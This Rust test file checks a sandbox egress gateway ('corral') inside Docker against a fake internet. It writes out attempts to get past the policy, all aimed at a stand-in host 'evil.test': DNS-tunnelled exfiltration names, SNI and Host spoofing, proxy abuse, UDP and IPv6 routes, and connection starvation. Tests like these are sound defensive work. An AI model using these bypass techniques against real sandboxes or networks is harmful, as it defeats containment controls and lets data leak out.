//! Egress by name, attacked from inside real sandboxes.
//!
//! "The internet" (`corral_testing::internet`): `pypi.test` (also `mirror.test`)
//! and `evil.test` in containers on a network of their own, HTTP on 80,
//! HTTPS on 443 and 8443 under a test CA made for this run, a package
//! index, a git repository, an apt repository, a UDP echo. The sandboxes'
//! image is `corral-test/net` with the test CA trusted; the gateways reach
//! out through the internet's network (`daemon.egress_network`), whose
//! resolver knows the servers' names.
//!
//! The sandbox policy of most cases: allow `pypi.test` (80 and 443) and
//! `mirror.test:8443`. Each allowed path (curl, pip, git, apt) is checked
//! to work, and each way around the policy is its own test and must fail.

use std::process::Command;
use std::sync::Arc;
use std::time::Duration;

use corral_testing::internet::{docker, internet, remove_sandbox, run, SANDBOXES};

use corral::{Runtime, RuntimeConfig, Sandbox};
use corral_core::egress::EgressPolicy;
use corral_core::{CommandSpec, Network};
use corral_docker::{DockerBackend, DockerConfig};

fn policy(allow: &[&str], deny: &[&str]) -> Network {
    Network::Egress(EgressPolicy {
        allow: allow.iter().map(|s| s.to_string()).collect(),
        deny: deny.iter().map(|s| s.to_string()).collect(),
    })
}

struct Sb {
    closed: bool,
    /// Kept for the sandbox's life: it owns the sandbox's watch and reaper.
    _runtime: Runtime,
    backend: Arc<DockerBackend>,
    sandbox: Sandbox,
}

impl Sb {
    async fn with(network: Network) -> Sb {
        let net = internet();
        let backend = Arc::new(
            DockerBackend::connect(&DockerConfig {
                egress_network: Some(net.network.clone()),
                ..DockerConfig::default()
            })
            .await
            .expect("these tests need a Docker daemon"),
        );
        let runtime = Runtime::new(backend.clone(), RuntimeConfig::default());
        let mut spec = corral_core::SandboxSpec::new(&net.image);
        spec.labels.insert("corraltest".into(), "egress".into());
        spec.network = network;
        let sandbox = runtime.create(&spec).await.expect("create the sandbox");
        if let Ok(mut s) = SANDBOXES.lock() {
            s.push(sandbox.id().to_string());
        }
        Sb {
            closed: false,
            _runtime: runtime,
            backend,
            sandbox,
        }
    }

    async fn new() -> Sb {
        Sb::with(policy(
            &["pypi.test", "mirror.test:8443"],
            &["169.254.0.0/16"],
        ))
        .await
    }

    /// Runs `script`; returns stdout+stderr and the exit code.
    async fn sh(&self, script: &str) -> (String, i32) {
        let r = self
            .sandbox
            .run(&CommandSpec::shell(format!("( {script} ) 2>&1")).timeout(Duration::from_secs(60)))
            .await;
        (
            String::from_utf8_lossy(&r.stdout).into_owned(),
            r.exit_code.unwrap_or(-1),
        )
    }

    async fn stats(&self) -> corral_docker::egress::EgressStats {
        self.backend
            .egress_stats(self.sandbox.id())
            .await
            .expect("read the gateway's counts")
            .expect("the sandbox has a gateway")
    }

    async fn close(mut self) {
        let id = self.sandbox.id().to_string();
        self.sandbox.destroy().await.expect("destroy");
        self.closed = true;
        let left = run(Command::new("docker").args([
            "ps",
            "-aq",
            "--filter",
            &format!("name=corral-egress-gw-{id}"),
        ]));
        assert_eq!(left, "", "the gateway of {id} outlived its sandbox");
    }
}

impl Drop for Sb {
    fn drop(&mut self) {
        // A failed test still leaves nothing behind.
        if !self.closed {
            remove_sandbox(self.sandbox.id());
        }
    }
}

/// curl with a short connect timeout; prints the body or curl's error.
fn curl(args: &str) -> String {
    format!("curl -sS --max-time 20 --connect-timeout 5 {args}")
}

#[tokio::test(flavor = "multi_thread")]
async fn allowed_names_work_over_http_and_https() {
    let sb = Sb::new().await;
    let (out, rc) = sb.sh(&curl("https://pypi.test/")).await;
    assert_eq!(
        (out.as_str(), rc),
        ("hello from pypi (Host pypi.test)\n", 0)
    );
    let (out, rc) = sb.sh(&curl("http://pypi.test/")).await;
    assert_eq!(
        (out.as_str(), rc),
        ("hello from pypi (Host pypi.test)\n", 0)
    );
    // A rule's own port, TLS verified against the test CA: not terminated.
    let (out, rc) = sb.sh(&curl("https://mirror.test:8443/")).await;
    assert_eq!(
        (out.as_str(), rc),
        ("hello from pypi (Host mirror.test:8443)\n", 0)
    );
    let (out, _) = sb
        .sh(&curl(
            "-v https://pypi.test/ -o /dev/null 2>&1 | grep -i 'issuer'",
        ))
        .await;
    assert!(
        out.contains("corral test CA"),
        "the server's own certificate: {out}"
    );
    let stats = sb.stats().await;
    assert!(stats.connections_allowed >= 4, "{stats:?}");
    assert_eq!(stats.connections_refused, 0, "{stats:?}");
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pip_installs_from_the_local_index() {
    let sb = Sb::new().await;
    let (out, rc) = sb
        .sh(
            "pip install --no-cache-dir --disable-pip-version-check --target /tmp/site \
             --index-url https://pypi.test/simple tinypkg && \
             PYTHONPATH=/tmp/site python3 -c 'import tinypkg; print(tinypkg.GREETING)'",
        )
        .await;
    assert_eq!(rc, 0, "{out}");
    assert!(out.ends_with("tinypkg from the local index\n"), "{out}");
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn git_clones_over_https() {
    let sb = Sb::new().await;
    let (out, rc) = sb
        .sh("git clone -q https://pypi.test/repo.git /tmp/repo && cat /tmp/repo/README")
        .await;
    assert_eq!((out.as_str(), rc), ("cloned-from-the-test-host\n", 0));
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_not_allowed_does_not_resolve_and_is_counted() {
    let sb = Sb::new().await;
    let (out, rc) = sb.sh(&curl("https://evil.test/")).await;
    assert_eq!(rc, 6, "curl: could not resolve: {out}");
    assert!(out.contains("Could not resolve host: evil.test"), "{out}");
    let (out, rc) = sb.sh(&curl("http://evil.test/")).await;
    assert_eq!(rc, 6, "{out}");
    let stats = sb.stats().await;
    assert!(stats.dns_refused >= 2, "{stats:?}");
    assert!(
        stats.recent_refusals.iter().any(|r| r == "dns evil.test"),
        "{stats:?}"
    );
    // Counted per sandbox: another sandbox's gateway saw none of it.
    let other = Sb::new().await;
    assert_eq!(other.stats().await.dns_refused, 0);
    other.close().await;
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_ip_literal_has_no_route() {
    let sb = Sb::new().await;
    let net = internet();
    for ip in [&net.evil_ip, &net.pypi_ip] {
        let (out, rc) = sb.sh(&curl(&format!("http://{ip}/"))).await;
        assert_eq!(rc, 7, "{ip}: {out}");
        assert!(out.contains("Couldn't connect to server"), "{ip}: {out}");
        assert!(!out.contains("hello from"), "{ip}: {out}");
        let (out, rc) = sb.sh(&curl(&format!("-k https://{ip}/"))).await;
        assert_eq!(rc, 7, "{ip}: {out}");
    }
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn another_port_is_refused() {
    let sb = Sb::new().await;
    // The gateway serves 8443 for mirror.test only.
    let (out, rc) = sb.sh(&curl("https://pypi.test:8443/")).await;
    assert_ne!(rc, 0, "{out}");
    assert!(out.contains("access denied"), "a TLS alert: {out}");
    // Nothing listens on a port no rule names.
    let (out, rc) = sb.sh(&curl("http://pypi.test:8080/")).await;
    assert_eq!(rc, 7, "{out}");
    assert!(out.contains("Couldn't connect to server"), "{out}");
    let (out, rc) = sb
        .sh(&curl(&format!("http://{}:22/", internet().pypi_ip)))
        .await;
    assert_eq!(rc, 7, "{out}");
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn ipv6_has_no_route() {
    let sb = Sb::new().await;
    let (out, rc) = sb.sh(&curl("-6 https://pypi.test/")).await;
    assert_ne!(rc, 0, "{out}");
    let (out, _) = sb
        .sh("python3 -c \"
import socket
s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(5)
try:
    s.connect(('2001:db8::1', 443)); print('connected')
except OSError as e:
    print('refused', e.errno)
print('aaaa', socket.getaddrinfo('pypi.test', 443, socket.AF_INET6) if False else '')
\"")
        .await;
    assert!(out.starts_with("refused"), "{out}");
    let (out, _) = sb
        .sh("cat /proc/net/if_inet6 | grep -v ' lo$' | wc -l")
        .await;
    assert_eq!(out.trim(), "0", "no IPv6 address but loopback");
    sb.close().await;
}

const UDP: &str = r#"python3 -c "
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
try:
    s.sendto(b'x' * 1200, (sys.argv[1], int(sys.argv[2]))); s.recv(100); print('answered')
except OSError as e:
    print('failed', e.errno, e)
""#;

#[tokio::test(flavor = "multi_thread")]
async fn udp_and_quic_have_no_route() {
    let sb = Sb::new().await;
    let net = internet();
    // QUIC is UDP 443; the gateway's own address answers DNS only.
    for (ip, port) in [
        (net.evil_ip.as_str(), "443"),
        (net.pypi_ip.as_str(), "443"),
        ("8.8.8.8", "443"),
    ] {
        let (out, _) = sb.sh(&format!("{UDP} {ip} {port}")).await;
        // evil.test echoes UDP on 443 and 53: a datagram that got there
        // would be answered.
        assert!(out.starts_with("failed"), "UDP to {ip}:{port}: {out}");
    }
    sb.close().await;
}

const DIG: &str = r#"python3 -c "
import socket, struct, sys, random
server, name, qtype = sys.argv[1], sys.argv[2], int(sys.argv[3])
q = struct.pack('>HHHHHH', random.randrange(65536), 0x100, 1, 0, 0, 0)
q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>HH', qtype, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
try:
    s.sendto(q, (server, 53)); r = s.recv(1500)
    print('rcode', r[3] & 15, 'answers', struct.unpack('>H', r[6:8])[0])
except OSError as e:
    print('failed', e.errno, e)
""#;

#[tokio::test(flavor = "multi_thread")]
async fn dns_to_another_resolver_has_no_route() {
    let sb = Sb::new().await;
    let net = internet();
    for server in [net.evil_ip.as_str(), "8.8.8.8", "1.1.1.1"] {
        let (out, _) = sb.sh(&format!("{DIG} {server} evil.test 1")).await;
        assert!(out.starts_with("failed"), "DNS to {server}: {out}");
    }
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn dns_tunnelling_through_the_resolver_gets_nothing() {
    let sb = Sb::new().await;
    let (resolver, _) = sb
        .sh("awk '/^nameserver/ {print $2; exit}' /etc/resolv.conf")
        .await;
    let resolver = resolver.trim();
    // Data smuggled in names of a domain not allowed: NXDOMAIN, from the gateway.
    for name in [
        "c2VjcmV0.evil.test",
        "exfil.data.example.com",
        "x.pypi.test",
    ] {
        let (out, _) = sb.sh(&format!("{DIG} {resolver} {name} 1")).await;
        assert!(out.starts_with("rcode 3 answers 0"), "{name}: {out}");
    }
    // Record types that carry data back (TXT, MX) get no answer even for an
    // allowed name; nor does AAAA (no IPv6 path).
    for qtype in [16, 15, 28] {
        let (out, _) = sb.sh(&format!("{DIG} {resolver} pypi.test {qtype}")).await;
        assert!(out.starts_with("rcode 0 answers 0"), "type {qtype}: {out}");
    }
    let (out, _) = sb.sh(&format!("{DIG} {resolver} pypi.test 1")).await;
    assert!(out.starts_with("rcode 0 answers 1"), "{out}");
    let stats = sb.stats().await;
    assert!(
        stats
            .recent_refusals
            .iter()
            .any(|r| r == "dns c2vjcmv0.evil.test"),
        "{stats:?}"
    );
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn sni_or_host_of_an_allowed_name_gets_nowhere_else() {
    let sb = Sb::new().await;
    let net = internet();
    // SNI and Host of pypi.test, connecting to evil's address: no route.
    let (out, rc) = sb
        .sh(&curl(&format!(
            "--resolve pypi.test:443:{} https://pypi.test/",
            net.evil_ip
        )))
        .await;
    assert_eq!(rc, 7, "{out}");
    let (out, rc) = sb
        .sh(&curl(&format!(
            "-H 'Host: pypi.test' http://{}/",
            net.evil_ip
        )))
        .await;
    assert_eq!(rc, 7, "{out}");
    // SNI of evil.test sent to the gateway (the address pypi.test resolves to).
    let (gw, _) = sb.sh("getent hosts pypi.test | cut -d' ' -f1").await;
    let gw = gw.trim();
    let (out, rc) = sb
        .sh(&curl(&format!(
            "--resolve evil.test:443:{gw} https://evil.test/"
        )))
        .await;
    assert_ne!(rc, 0, "{out}");
    assert!(out.contains("access denied"), "{out}");
    // Host of evil.test through the gateway, over plain HTTP.
    let (out, rc) = sb.sh(&curl("-H 'Host: evil.test' http://pypi.test/")).await;
    assert_eq!(rc, 0, "{out}");
    assert_eq!(
        out,
        "corral egress: evil.test:80 is not allowed by this sandbox's egress policy\n"
    );
    let stats = sb.stats().await;
    assert_eq!(stats.connections_refused, 2, "{stats:?}");
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_commands_own_http_proxy_gets_nowhere() {
    let sb = Sb::new().await;
    let net = internet();
    // A proxy at an outside address: no route.
    let (out, rc) = sb
        .sh(&format!(
            "HTTPS_PROXY=http://{}:3128 {}",
            net.evil_ip,
            curl("https://pypi.test/")
        ))
        .await;
    assert_eq!(rc, 7, "{out}");
    // The gateway used as a forward proxy: absolute URLs and CONNECT refused.
    let (out, _) = sb
        .sh(&format!(
            "http_proxy=http://pypi.test:80 {}",
            curl("http://evil.test/")
        ))
        .await;
    assert!(out.contains("proxy request"), "{out}");
    let (out, rc) = sb
        .sh(&format!(
            "HTTPS_PROXY=http://pypi.test:80 {}",
            curl("https://evil.test/")
        ))
        .await;
    assert_ne!(rc, 0, "{out}");
    assert!(!out.contains("hello from evil"), "{out}");
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn deny_wins_and_cidrs_bound_where_names_lead() {
    let net = internet();
    // pypi.test is allowed by name but its address is denied.
    let sb = Sb::with(policy(
        &["pypi.test", "evil.test"],
        &[&format!("{}/32", net.pypi_ip), "evil.test"],
    ))
    .await;
    let (out, rc) = sb.sh(&curl("https://pypi.test/")).await;
    assert_ne!(rc, 0, "{out}");
    assert!(out.contains("access denied"), "{out}");
    let (out, rc) = sb.sh(&curl("https://evil.test/")).await;
    assert_eq!(rc, 6, "{out}");
    let stats = sb.stats().await;
    assert!(
        stats
            .recent_refusals
            .iter()
            .any(|r| r.contains("resolves to no address this sandbox may reach")),
        "{stats:?}"
    );
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_host_behind_the_internal_network_is_not_reachable() {
    let sb = Sb::new().await;
    // The bridge's own address is the host's: a server on the host's
    // wildcard address must not answer the sandbox.
    let listener = std::net::TcpListener::bind("0.0.0.0:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for mut c in listener.incoming().flatten() {
            use std::io::Write;
            let _ = c.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 13\r\n\r\nhost-reached\n");
        }
    });
    let (host, _) = sb
        .sh("ip=$(hostname -i | cut -d' ' -f1); echo ${ip%.*}.1")
        .await;
    let host = host.trim();
    let (out, rc) = sb.sh(&curl(&format!("http://{host}:{port}/"))).await;
    assert!(
        !out.contains("host-reached"),
        "reached the host at {host}: {out}"
    );
    assert_ne!(rc, 0, "{out}");
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_gateway_without_its_sandbox_is_collected() {
    use corral_core::Backend;
    let net = internet();
    // What a corral that died between making the gateway and the sandbox
    // leaves behind: a gateway and a network, no sandbox container.
    let id = format!("sb-orphan{}", std::process::id());
    if let Ok(mut s) = SANDBOXES.lock() {
        s.push(id.clone());
    }
    let backend = DockerBackend::connect(&DockerConfig::default())
        .await
        .expect("daemon");
    let egress = EgressPolicy {
        allow: vec!["pypi.test".into()],
        deny: vec![],
    };
    corral_docker::egress::ensure(backend.docker(), &id, &egress, &net.network)
        .await
        .expect("make a gateway");
    let gw = corral_docker::egress::gateway_name(&id);
    assert_ne!(
        docker(&["ps", "-aq", "--filter", &format!("name={gw}")]),
        ""
    );
    // Gateways younger than the grace period are left be (one is made just
    // before its sandbox): wait it out.
    tokio::time::sleep(Duration::from_secs(
        corral_docker::gc::YOUNG_VOLUME_SECS + 1,
    ))
    .await;
    // The other tests' runtimes collect garbage too (at connect): whoever
    // ran it, the gateway and its network are gone after this.
    let removed = backend.collect_garbage().await.expect("gc");
    assert_eq!(
        docker(&["ps", "-aq", "--filter", &format!("name={gw}")]),
        "",
        "gc removed {removed:?}"
    );
    let nets = docker(&[
        "network",
        "ls",
        "-q",
        "--filter",
        &format!("name=corral-egress-{id}"),
    ]);
    assert_eq!(nets, "");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_inside_is_reachable_through_the_port_relay() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let sb = Sb::new().await;
    let (out, rc) = sb
        .sh("(python3 -m http.server 8000 --bind 127.0.0.1 --directory /etc >/dev/null 2>&1 &); \
             for i in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:8000/ && break; sleep 0.1; done; echo up")
        .await;
    assert_eq!((out.as_str(), rc), ("up\n", 0));
    let mut stream = sb.sandbox.open_port(8000).await.expect("open the port");
    stream
        .write_all(b"GET /hostname HTTP/1.0\r\n\r\n")
        .await
        .expect("send");
    let mut reply = Vec::new();
    stream.read_to_end(&mut reply).await.expect("read");
    let reply = String::from_utf8_lossy(&reply);
    assert!(reply.starts_with("HTTP/1.0 200"), "{reply}");
    sb.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn apt_installs_over_http() {
    let sb = Sb::new().await;
    let (out, rc) = sb
        // The hardened sandbox has no SETUID/SETGID: apt downloads as root.
        .sh("echo 'deb [trusted=yes] http://pypi.test/debian ./' > /etc/apt/sources.list.d/test.list && \
             echo 'APT::Sandbox::User \"root\";' > /etc/apt/apt.conf.d/90corral-test && \
             apt-get -q -o Dir::Etc::sourcelist=/etc/apt/sources.list.d/test.list \
               -o Dir::Etc::sourceparts=- -o APT::Get::List-Cleanup=0 update && \
             apt-get -q -y install tinydeb && cat /usr/share/tinydeb/marker")
        .await;
    assert_eq!(rc, 0, "{out}");
    assert!(out.ends_with("installed-by-apt\n"), "{out}");
    sb.close().await;
}

/// The gateway runs as its Kubernetes pod does: uid and gid 65534, no
/// capability at all, a read-only root (its counts on a tmpfs), so a
/// gateway a sandbox found a way into could change nothing of its own.
#[tokio::test(flavor = "multi_thread")]
async fn the_gateway_runs_as_nobody_with_a_read_only_root_and_no_capability() {
    let sb = Sb::new().await;
    // It still works, binding 53 and 80 without NET_BIND_SERVICE.
    let (out, rc) = sb.sh(&curl("http://pypi.test/")).await;
    assert_eq!(
        (out.as_str(), rc),
        ("hello from pypi (Host pypi.test)\n", 0)
    );
    assert_eq!(sb.stats().await.connections_allowed, 1);
    let gw = corral_docker::egress::gateway_name(sb.sandbox.id());
    let seen = docker(&[
        "inspect",
        "--format",
        "{{.Config.User}} {{.HostConfig.ReadonlyRootfs}} {{.HostConfig.CapAdd}} {{.HostConfig.CapDrop}}",
        &gw,
    ]);
    assert_eq!(seen, "65534:65534 true [] [ALL]", "{gw}");
    // What the process itself reports at start.
    let logs = Command::new("docker")
        .args(["logs", &gw])
        .output()
        .expect("docker logs");
    let logs = String::from_utf8_lossy(&logs.stderr);
    assert!(
        logs.contains("uid 65534, CapEff 0000000000000000, root ro"),
        "{logs}"
    );
    sb.close().await;
}

/// Connections opened and left silent cannot starve the gateway: past a
/// bound per client the oldest handshake is shed, so with 600 of them held
/// the sandbox's next ordinary request is answered at once, where the
/// gateway ran out of threads (its pids limit) and dropped every new
/// connection until the silent ones timed out (10 s each, about 40 s in
/// all). The request's bound (8 s) is below that timeout, not a speed
/// claim.
#[tokio::test(flavor = "multi_thread")]
async fn held_connections_do_not_starve_the_gateway() {
    let sb = Sb::new().await;
    let script = r#"
import socket, subprocess
held = []
for i in range(600):
    try:
        held.append(socket.create_connection(("pypi.test", 80), timeout=5))
    except OSError:
        pass
r = subprocess.run(["curl", "-sS", "--max-time", "8", "http://pypi.test/"],
                   capture_output=True, text=True)
print(len(held), r.returncode, r.stdout.strip(), r.stderr.strip())
"#;
    let (out, rc) = sb
        .sh(&format!("python3 -c '{}'", script.replace('\'', "\"")))
        .await;
    assert_eq!(rc, 0, "{out}");
    let fields: Vec<&str> = out.trim().splitn(3, ' ').collect();
    assert!(
        fields.first().and_then(|n| n.parse::<u32>().ok()) >= Some(500),
        "could not hold the connections: {out}"
    );
    assert_eq!(
        fields.get(1..).map(|f| f.join(" ")).as_deref(),
        Some("0 hello from pypi (Host pypi.test)"),
        "{out}"
    );
    sb.close().await;
}
